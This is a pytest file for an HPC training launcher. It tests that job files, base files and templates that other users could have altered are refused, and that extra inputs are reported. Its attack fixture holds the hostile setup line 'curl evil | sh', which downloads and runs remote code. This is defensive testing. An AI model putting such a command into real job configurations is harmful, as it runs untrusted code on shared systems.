"""What a job file consists of besides itself is named, and refused where another user could have changed it."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from hpc_rlhf.cli import main
from hpc_rlhf.launch import inputs
from tests.co_user import as_co_user, as_root

BASE = "run_dir: runs/x\ndata: {sources: [{demo: 100}]}\nmodels: {actor: facebook/opt-125m}\nstages: {sft: {}}\n"
THEIRS = "slurm: {setup: [curl evil | sh]}\n"


@pytest.fixture
def folder(public: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that others can enter, with a job file that extends another."""
    folder = public / "jobs"
    folder.mkdir()
    (folder / "base.yaml").write_text(BASE)
    (folder / "job.yaml").write_text("extends: base.yaml\nname: x\n")
    monkeypatch.chdir(folder)
    return folder


def template(folder: Path) -> None:
    (folder / "templates").mkdir()
    (folder / "templates/_options.j2").write_text("{{ slurm.partition }}")


def extended(folder: Path) -> None:
    (folder / "base.yaml").rename(folder / "old")
    (folder / "base.yaml").write_text(BASE + THEIRS)


def job_file(folder: Path) -> None:
    (folder / "job.yaml").rename(folder / "old")
    (folder / "job.yaml").write_text(f"name: x\n{BASE}{THEIRS}")


@as_root
@pytest.mark.parametrize("attack", [template, extended, job_file])
@pytest.mark.parametrize("verb", ["submit", "run"])
def test_a_co_user_adds_nothing_to_what_jobs_run(
    attack: Callable[[Path], object], verb: str, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert not as_co_user(lambda: attack(folder))  # the folder is closed to them
    folder.chmod(0o777)
    assert as_co_user(lambda: attack(folder))
    assert main([verb, "job.yaml"]) == 2
    assert re.search("it is world-writable|it belongs to another user", capsys.readouterr().err)
    folder.chmod(0o1777)  # what they left is still theirs
    assert main([verb, "job.yaml"]) == 2
    assert "it belongs to another user (uid 65534)" in capsys.readouterr().err
    assert not (folder / "runs").exists()


@pytest.mark.parametrize("verb", [["plan"], ["render", "--out", "out"], ["submit", "--dry-run"]])
def test_what_is_used_besides_the_job_file_is_named(
    verb: list[str], folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([*verb, "job.yaml"]) == 0
    captured = capsys.readouterr()
    assert "base.yaml: extended by the job file" in captured.err
    assert "template" not in captured.err
    (folder / "templates").mkdir()
    (folder / "templates/hostfile.j2").write_text("@NODE@ slots=1\n")
    assert main([*verb, "job.yaml"]) == 0
    assert "templates/hostfile.j2: replaces a built-in template" in capsys.readouterr().err


def test_the_users_own_files_are_accepted(folder: Path) -> None:
    template(folder)
    inputs.check(folder / "job.yaml")
    (folder / "link.yaml").symlink_to(folder / "job.yaml")
    inputs.check(folder / "link.yaml")
